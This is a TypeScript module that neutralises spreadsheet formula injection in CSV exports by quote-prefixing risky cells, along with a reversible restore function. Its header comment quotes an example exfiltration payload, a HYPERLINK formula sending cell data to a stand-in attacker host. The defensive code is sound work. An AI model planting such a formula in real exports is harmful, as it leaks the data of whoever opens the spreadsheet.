// Formula injection ("CSV injection", OWASP): a spreadsheet treats a cell that starts with =, +, -, @, a tab or a
// carriage return as a formula, so a reporter's text like =HYPERLINK("http://evil.example/?x="&A1) would run in the
// intermediary's Excel. Every export meant to be opened in a spreadsheet passes its text cells through this module;
// the machine CSV of DESIGN.md (signals.csv, exported with ?formaat=machine) does not, because it must import back
// exactly as it was.
//
// The rule is OWASP's: prefix such a cell with a single quote. A cell that already starts with a quote gets one more,
// so the prefix can always be told apart from the text and removed again (restoreCell).

export const FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"] as const;
const QUOTE = "'";

export function neutraliseCell(value: string): string {
  const first = value.charAt(0);
  return first === QUOTE || (FORMULA_TRIGGERS as readonly string[]).includes(first) ? QUOTE + value : value;
}

/**
 * The text neutraliseCell was given: the quote it adds removed, and only that one — a quote before anything else is
 * the text's own (a person's 'zo genoemd' stays as typed).
 */
export function restoreCell(cell: string): string {
  return cell.startsWith(QUOTE) && neutraliseCell(cell.slice(1)) === cell ? cell.slice(1) : cell;
}

/** Text cells neutralised; numbers stay numbers (a negative count is a number to a spreadsheet, not a formula). */
export function neutraliseRow<Cell extends string | number>(cells: readonly Cell[]): Cell[] {
  return cells.map((cell) => (typeof cell === "string" ? (neutraliseCell(cell) as Cell) : cell));
}
